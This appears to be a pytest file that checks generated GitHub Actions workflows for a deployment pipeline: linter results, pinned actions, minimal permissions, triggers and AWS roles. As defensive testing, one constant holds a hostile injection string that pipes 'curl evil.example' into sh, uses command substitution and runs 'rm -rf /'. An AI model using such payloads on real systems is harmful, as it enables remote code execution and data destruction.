"""Generated GitHub workflows: clean under actionlint (+shellcheck), zizmor and the workflow schema,
with the triggers, environments, permissions and concurrency the pipeline needs, and no path
from a spec value or an untrusted context into a shell."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from compiler.targets.workflows import pins
from tests.conftest import CASES, ROOT, Result

BIN = Path(sys.executable).parent
WORKFLOWS = ROOT / ".github" / "workflows"
NAMES = ["deploy.yml", "drift.yml", "integration-tests.yml", "specs.yml"]


def load(path: Path) -> dict[Any, Any]:
    data = yaml.safe_load(path.read_text())
    # PyYAML (YAML 1.1) reads the key `on` as True.
    data["on"] = data.pop(True)
    return data


def tool(*args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "PATH": f"{BIN}{os.pathsep}{os.environ.get('PATH', '')}"}  # shellcheck for actionlint
    return subprocess.run(args, capture_output=True, text=True, env=env, check=False)


def lint(directory: Path) -> None:
    files = sorted(str(p) for p in directory.glob("*.yml"))
    assert len(files) == 4
    result = tool(str(BIN / "actionlint"), "-shellcheck", str(BIN / "shellcheck"), *files)
    assert result.returncode == 0, result.stdout + result.stderr
    for persona in ("regular", "auditor"):
        result = tool(str(BIN / "zizmor"), "--offline", "--persona", persona, "--no-progress", str(directory))
        assert result.returncode == 0, f"{persona}:\n{result.stdout}{result.stderr}"
        assert "No findings to report" in result.stdout + result.stderr
    result = tool(str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", *files)
    assert result.returncode == 0, result.stdout + result.stderr


def test_committed_workflows_pass_all_three_linters() -> None:
    lint(WORKFLOWS)


def test_workflows_of_another_spec_tree_pass_too(project: Callable[[Path], Path], cli: Callable[..., Result]) -> None:
    root = project(CASES / "valid" / "minimal")
    assert cli("compile").code == 0
    lint(root / ".github" / "workflows")


@pytest.mark.parametrize("name", NAMES)
def test_security_baseline(name: str) -> None:
    text = (WORKFLOWS / name).read_text()
    data = load(WORKFLOWS / name)
    assert data["permissions"] == {}
    assert "pull_request_target" not in data["on"]
    for job_id, job in data["jobs"].items():
        assert "permissions" in job, job_id
        for step in job["steps"]:
            if "uses" in step:
                action, _, sha = step["uses"].partition("@")
                assert sha == pins()[action]["sha"], step["uses"]
            if step.get("uses", "").startswith("actions/checkout@"):
                assert step["with"]["persist-credentials"] is False
            assert "${{" not in step.get("run", ""), f"{job_id}: expression inside run:"
    for line in text.splitlines():
        if re.match(r"\s+(- )?run:", line):
            assert line.rstrip().endswith("run: |"), line  # always a block scalar
    for match in re.finditer(r"uses: (\S+)@([0-9a-f]+) # (\S+)", text):
        action, sha, tag = match.groups()
        assert (len(sha), pins()[action]["tag"]) == (40, tag)
    assert "actions/cache" not in text and "cache:" not in text


def test_every_grant_is_explained() -> None:
    for name in NAMES:
        for line in (WORKFLOWS / name).read_text().splitlines():
            if re.match(r"\s+(contents|id-token|pull-requests): (read|write)", line):
                assert " # " in line, f"{name}: {line.strip()} has no reason"


def test_deploy_triggers_environments_and_concurrency() -> None:
    data = load(WORKFLOWS / "deploy.yml")
    assert data["on"] == {
        "pull_request": {"branches": ["main"]},
        "push": {"branches": ["main"]},
        "release": {"types": ["published"]},
    }
    expected = {"development": "pull_request", "staging": "push", "production": "release"}
    assert set(data["jobs"]) == {f"deploy-{env}" for env in expected}
    for env, event in expected.items():
        job = data["jobs"][f"deploy-{env}"]
        assert job["if"] == f"github.event_name == '{event}'"
        assert job["environment"] == env
        assert job["concurrency"] == {"group": f"deploy-{env}", "cancel-in-progress": False}
        assert job["permissions"] == {"contents": "read", "id-token": "write"}
        uses = [s.get("uses", "").split("@")[0] for s in job["steps"]]
        assert uses.index("aws-actions/configure-aws-credentials") < uses.index("pulumi/actions")
        aws = next(s for s in job["steps"] if s.get("uses", "").startswith("aws-actions/"))
        account = {"development": "111111111111", "staging": "222222222222", "production": "333333333333"}[env]
        assert aws["with"]["role-to-assume"] == f"arn:aws:iam::{account}:role/sophia-ai-deploy"
        assert "aws-access-key-id" not in aws["with"]
        commands = [s["with"]["command"] for s in job["steps"] if s.get("uses", "").startswith("pulumi/actions@")]
        assert commands == ["preview", "up"]
        assert any("sophia-iac test-integrations" in s.get("run", "") for s in job["steps"])
        assert job["steps"][-1]["if"] == "failure()" and "slack-github-action" in job["steps"][-1]["uses"]


def test_integration_tests_schedule_dispatch_and_artifact() -> None:
    data = load(WORKFLOWS / "integration-tests.yml")
    assert data["on"]["schedule"] == [{"cron": "0 */6 * * *"}]
    choice = data["on"]["workflow_dispatch"]["inputs"]["environment"]
    assert (choice["type"], choice["default"], choice["options"]) == (
        "choice",
        "development",
        ["development", "staging", "production"],
    )
    for event in ("push", "pull_request"):
        assert data["on"][event]["paths"] == ["compiler/integration_tests/**", "pyproject.toml"]
    steps = data["jobs"]["test"]["steps"]
    upload = next(s for s in steps if s.get("uses", "").startswith("actions/upload-artifact@"))
    assert upload["if"] == "always()" and upload["with"]["path"] == "integration-test-results.json"
    assert data["jobs"]["notify"]["environment"] == "notifications"


def test_specs_and_drift() -> None:
    specs = load(WORKFLOWS / "specs.yml")
    assert "specs/**" in specs["on"]["pull_request"]["paths"]
    assert specs["jobs"]["check"]["permissions"] == {"contents": "read"}
    assert specs["jobs"]["comment"]["permissions"] == {"pull-requests": "write"}
    runs = " ".join(s.get("run", "") for s in specs["jobs"]["check"]["steps"])
    assert "sophia-iac validate --format github" in runs and "sophia-iac compile --check" in runs
    assert 'sophia-iac plan --env "$stack" --diff "$BASE_SHA" --format markdown' in runs
    drift = load(WORKFLOWS / "drift.yml")
    legs = drift["jobs"]["drift"]["strategy"]["matrix"]["include"]
    assert [leg["environment"] for leg in legs] == ["development", "staging", "production"]
    assert all(leg["role"].endswith(":role/sophia-ai-drift") for leg in legs)
    preview = next(s for s in drift["jobs"]["drift"]["steps"] if s.get("uses", "").startswith("pulumi/actions@"))
    assert preview["with"]["expect-no-changes"] is True and preview["with"]["command"] == "preview"
    assert "environment" not in drift["jobs"]["drift"]  # read-only role: no approval gate


def run_blocks(directory: Path) -> list[str]:
    blocks = []
    for path in sorted(directory.glob("*.yml")):
        for job in load(path)["jobs"].values():
            blocks += [step["run"] for step in job["steps"] if "run" in step]
    return blocks


HOSTILE = 'x"; curl evil.example | sh; echo "${{ github.event.issue.title }}`id`$(id)\n  - run: |\n      rm -rf /'


def test_hostile_spec_text_cannot_reach_a_run_block(
    project: Callable[[Path], Path], cli: Callable[..., Result]
) -> None:
    root = project(CASES / "valid" / "minimal")
    assert cli("compile").code == 0
    baseline = run_blocks(root / ".github" / "workflows")
    quoted = json.dumps(HOSTILE)  # a JSON string is a YAML double-quoted scalar
    for spec in (root / "specs").glob("*.yaml"):
        text = re.sub(
            r"^(\s+)description: .*$",
            lambda m: f"{m.group(1)}description: {quoted}",
            spec.read_text(),
            flags=re.MULTILINE,
        )
        spec.write_text(text.replace("metadata:\n", f"metadata:\n  labels: {{team: {quoted}}}\n"))
    assert cli("validate").code == 0
    assert cli("compile").code == 0
    shown = json.loads(cli("show", "--env", "production", "--format", "json").out)
    assert {d["spec"].get("description") for d in shown} - {None} == {HOSTILE}
    assert {d["metadata"]["labels"]["team"] for d in shown} == {HOSTILE}
    after = run_blocks(root / ".github" / "workflows")
    assert after == baseline
    for path in (root / ".github" / "workflows").glob("*.yml"):
        assert "curl evil" not in path.read_text()
